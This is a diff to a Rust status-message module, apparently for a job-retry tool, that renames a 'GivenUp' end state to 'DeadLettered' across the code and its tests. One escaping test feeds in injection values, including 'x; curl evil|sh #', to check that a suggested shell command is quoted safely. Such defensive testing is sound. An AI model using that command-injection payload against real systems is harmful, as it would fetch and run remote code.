@@ -85,8 +85,8 @@ pub(crate) fn end(trace: &Trace, now: Timestamp, place: &str) -> String {
             format!("Its function is paused. `comeback pause --list{place}` shows who paused it, and why.")
         }
         End::Kept => "It is kept; the handler will try again.".into(),
-        End::GivenUp => {
-            let dead_lettered = |step: &&Step| matches!(step.what, What::GivenUp { .. });
+        End::DeadLettered => {
+            let dead_lettered = |step: &&Step| matches!(step.what, What::DeadLettered { .. });
             let at = trace.story.steps.iter().rfind(dead_lettered).map(|step| format!(" at {}", step.at));
             let at = at.unwrap_or_default();
             format!(
@@ -163,7 +163,7 @@ mod tests {
         for (key, shown) in
             [("x; curl evil|sh #", "x; curl evil|sh #"), ("a\0`b`$c", "a\\u{0}`b`$c"), ("-k'", "-k'")]
         {
-            let mut trace = trace(Vec::new(), End::GivenUp, Vec::new());
+            let mut trace = trace(Vec::new(), End::DeadLettered, Vec::new());
             trace.story.key = key.into();
             let text = plain(&trace, 64);
             let (_, command) = text.split_once("To see whether it is still there: `").unwrap();
@@ -247,7 +247,7 @@ mod tests {
     fn the_last_sentence_says_what_is_known_and_no_more() {
         let last = |what, end, invocations| plain(&trace(vec![(0, what)], end, invocations), 10);
         let wait = || What::Waits { retry: 1, due: at(3), due_by: DueBy::Policy, policy: None };
-        let dead_lettered = What::GivenUp { reason: "max_age".into(), detail: None, policy: None };
+        let dead_lettered = What::DeadLettered { reason: "max_age".into(), detail: None, policy: None };
         for (what, end, expected) in [
             (wait(), End::Waiting { due: at(70) }, "Waiting. The next retry is due in 1m."),
             (
@@ -263,7 +263,7 @@ mod tests {
             (wait(), End::Kept, "It is kept; the handler will try again."),
             (
                 dead_lettered,
-                End::GivenUp,
+                End::DeadLettered,
                 "Dead-lettered at 2026-09-14T15:33:20.000Z. To see whether it is still there: `comeback dead \
                  show k-1 --stack shop`",
             ),
